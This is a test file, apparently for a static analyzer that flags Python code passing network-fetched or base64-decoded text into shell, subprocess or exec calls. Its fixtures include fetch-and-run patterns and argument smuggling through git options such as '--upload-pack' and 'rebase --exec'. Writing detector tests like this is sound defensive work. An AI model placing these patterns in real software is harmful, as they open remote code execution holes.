import { expect, test } from 'vitest';
import { read } from './reading.js';

const START = 'import os, subprocess\nfrom urllib.request import urlopen\nword = urlopen("https://garden.example.invalid/").read().decode()\n';

async function started(text: string): Promise<readonly string[]> {
  const { facts } = await read(START + text);
  return (facts?.flows({ from: ['network', 'decoder', 'shipped'], to: ['process', 'exec'] }) ?? []).map(({ from, to, through }) => `${from} ${through} ${to}`);
}

test.each([
  ['is shown', 'subprocess.call(["notify-send", "Garden", word])\n'],
  ['is spoken', 'subprocess.Popen(["/usr/bin/say", word])\n'],
  ['is looked up', 'print(subprocess.check_output(["whois", word]))\n'],
  ['is turned into a picture', 'subprocess.run(["ffmpeg", "-i", word, "/tmp/leaf.png"], check=True)\n'],
  ['is played', 'subprocess.run(["mpv", "--fullscreen", word])\n'],
  ['is the address of a repository', 'subprocess.check_call(["git", "clone", "--mirror", word])\n'],
  ['is put on the wall', 'open("/tmp/leaf.jpg", "w").write(word)\nsubprocess.check_call(["feh", "--bg-fill", "/tmp/leaf.jpg"])\n'],
])('a word that was fetched and %s is not run', async (_, text) => {
  expect(await started(text)).toEqual([]);
});

test.each([
  ['is a line for a shell', 'os.system("notify-send " + word)\n', 'network value process'],
  ['is in a list for a shell', 'subprocess.call(["notify-send", word], shell=True)\n', 'network value process'],
  ['is given to another program of that name', 'subprocess.call(["say", word], executable=p)\n', 'network value process'],
  ['is given to a program of that name in another folder', 'subprocess.call(["/tmp/say", word])\n', 'network value process'],
  ['is given to a program that is found where the code says', 'subprocess.call(["say", word], env={"PATH": p})\n', 'network value process'],
  ['is given to a program that may run it', 'subprocess.call(["find", word])\n', 'network value process'],
  ['is the program itself', 'subprocess.call([word, "say"])\n', 'network value process'],
  ['is behind an option that starts programs', 'subprocess.call(["git", "clone", "-c", word, "https://garden.example.invalid/a"])\n', 'network value process'],
  ['is a part of an option that starts programs', 'subprocess.call(["git", "clone", "--upload-pack=" + word, "a"])\n', 'network value process'],
  ['is given to another command of git', 'subprocess.call(["git", "rebase", "--exec", word])\n', 'network value process'],
  ['is printed into a file', 'subprocess.call(["echo", word], stdout=open("/tmp/leaf.sh", "w"))\n', 'network value process'],
  ['is printed, and the output run', 'exec(subprocess.check_output(["echo", word]))\n', 'network value exec'],
  ['is kept, printed and run', 'open("/tmp/leaf", "w").write(word)\nexec(subprocess.check_output(["cat", "/tmp/leaf"]))\n', 'network file process'],
  ['is decoded first', 'import base64\nsubprocess.call(["notify-send", base64.b64decode(x)])\n', 'decoder value process'],
  ['is the address of a repository that is run', 'subprocess.call(["git", "clone", word, "/tmp/leaves"])\nsubprocess.call(["sh", "/tmp/leaves/run.sh"])\n', 'network file process'],
  ['is a script of a player', 'open("/tmp/leaf.lua", "w").write(word)\nsubprocess.call(["mpv", "--script=/tmp/leaf.lua", "a.mp3"])\n', 'network file process'],
])('a word that was fetched and %s is met as before', async (_, text, flow) => {
  expect(await started(text)).toContain(flow);
});
